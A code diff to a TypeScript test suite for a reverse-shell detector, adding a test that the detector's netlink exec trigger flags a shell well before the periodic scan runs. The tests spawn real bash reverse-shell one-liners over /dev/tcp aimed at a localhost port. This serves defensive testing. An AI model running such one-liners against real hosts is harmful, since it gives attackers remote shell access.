@@ -44,7 +44,7 @@ describe('startDetection', () => {
     const events: AlertEventData[] = [];
     let scans = 0;
     let paused = true;
-    const timers = startDetection({
+    const detection = startDetection({
       link: { flush: () => undefined },
       queue: {
         push: (kind, data) => {
@@ -60,6 +60,7 @@ describe('startDetection', () => {
       },
       intervalMs: 100,
       repeatMs: 60_000,
+      execEvents: false,
     });
     try {
       shell = spawn('bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { detached: true, stdio: 'ignore', env: { ...process.env, HOME: home } });
@@ -88,7 +89,43 @@ describe('startDetection', () => {
       await until(() => scans >= after + 5);
       expect(events).toHaveLength(1);
     } finally {
-      for (const t of timers) clearInterval(t);
+      detection.stop();
+    }
+  }, 30_000);
+
+  it('scans on the exec of a shell (netlink process connector), long before the next periodic scan', async () => {
+    const events: Array<{ data: AlertEventData }> = [];
+    const detection = startDetection({
+      link: { flush: () => undefined },
+      queue: {
+        push: (kind, data) => {
+          if (kind === 'alert' && (data as AlertEventData).details.peer?.remotePort === port) events.push({ data: data as AlertEventData });
+          return { seq: 0, kind, time: 0, data };
+        },
+      },
+      log: () => undefined,
+      home,
+      isPaused: () => false,
+      // The periodic scan alone would take 10 minutes: only the exec trigger can be this fast.
+      intervalMs: 600_000,
+    });
+    let second: ReturnType<typeof spawn> | undefined;
+    try {
+      expect(detection.mode).toBe('netlink');
+      second = spawn('bash', ['-c', `exec bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { detached: true, stdio: 'ignore', env: { ...process.env, HOME: home } });
+      const end = Date.now() + 20_000;
+      const mine = () => events.filter((e) => e.data.details.pid === second?.pid);
+      while (mine().length === 0 && Date.now() < end) await new Promise((r) => setTimeout(r, 20));
+      expect(mine()[0]?.data.ruleId).toBe('revshell.stdio-socket');
+    } finally {
+      detection.stop();
+      if (second?.pid !== undefined) {
+        try {
+          process.kill(-second.pid, 'SIGKILL');
+        } catch {
+          // gone
+        }
+      }
     }
   }, 30_000);
 });
